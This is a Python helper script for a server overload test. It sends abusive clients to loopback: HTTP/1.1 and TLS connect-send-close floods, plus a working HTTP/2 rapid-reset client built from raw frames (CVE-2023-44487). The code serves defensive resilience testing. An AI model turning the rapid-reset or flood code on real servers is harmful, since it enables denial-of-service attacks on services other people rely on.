#!/usr/bin/env python3
"""Abusive clients for test_overload.sh, on loopback only (standard library only).

flood.py http1 PORT PATH...       one connection per PATH: send a GET, close at once
                                  (connect-send-close); prints how many were sent.
flood.py tls1 PORT PATH...        the same over TLS (no certificate check), each connection
                                  closed the way TLS clients close: close_notify, then FIN.
flood.py h2reset PORT N PATHFMT   one HTTP/2 (prior knowledge, cleartext) connection:
                                  N requests for PATHFMT % i, each cancelled with
                                  RST_STREAM right after its HEADERS (rapid reset,
                                  CVE-2023-44487); then waits up to 10 s for the server
                                  to close; prints "closed after K" (K requests sent
                                  before the first failed send) or "open".
"""
import socket
import ssl
import struct
import sys
import time


def http1(port, paths):
    for p in paths:
        s = socket.create_connection(("127.0.0.1", port))
        s.sendall(("GET %s HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n" % p).encode())
        s.close()
    print(len(paths))


def tls1(port, paths):
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    for p in paths:
        s = ctx.wrap_socket(socket.create_connection(("127.0.0.1", port)), server_hostname="127.0.0.1")
        s.sendall(("GET %s HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n" % p).encode())
        s.settimeout(0.05)
        try:
            s.unwrap()  # sends close_notify; the server answers none while the request runs
        except (OSError, ssl.SSLError):
            pass
        s.close()
    print(len(paths))


def frame(ftype, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    # HPACK literal header field without indexing, new name, no Huffman (RFC 7541 6.2.2)
    n, v = name.encode(), value.encode()
    assert len(n) < 127 and len(v) < 127
    return b"\x00" + bytes([len(n)]) + n + bytes([len(v)]) + v


def h2reset(port, n, fmt):
    s = socket.create_connection(("127.0.0.1", port))
    s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
    sent = 0
    try:
        for i in range(n):
            stream = 2 * i + 1
            block = literal(":method", "GET") + literal(":scheme", "http") + \
                literal(":path", fmt % i) + literal(":authority", "127.0.0.1")
            s.sendall(frame(1, 0x5, stream, block) + frame(3, 0, stream, struct.pack(">I", 8)))
            sent += 1
            time.sleep(0.002)  # let the server handle each before its reset
    except OSError:
        print("closed after %d" % sent)
        return
    s.settimeout(10)
    try:
        while s.recv(65536):
            pass
        print("closed after %d" % sent)
    except socket.timeout:
        print("open")
    except OSError:
        print("closed after %d" % sent)


if __name__ == "__main__":
    if sys.argv[1] == "http1":
        http1(int(sys.argv[2]), sys.argv[3:])
    elif sys.argv[1] == "tls1":
        tls1(int(sys.argv[2]), sys.argv[3:])
    elif sys.argv[1] == "h2reset":
        h2reset(int(sys.argv[2]), int(sys.argv[3]), sys.argv[4])
    else:
        sys.exit("usage: flood.py http1 PORT PATH... | h2reset PORT N PATHFMT")
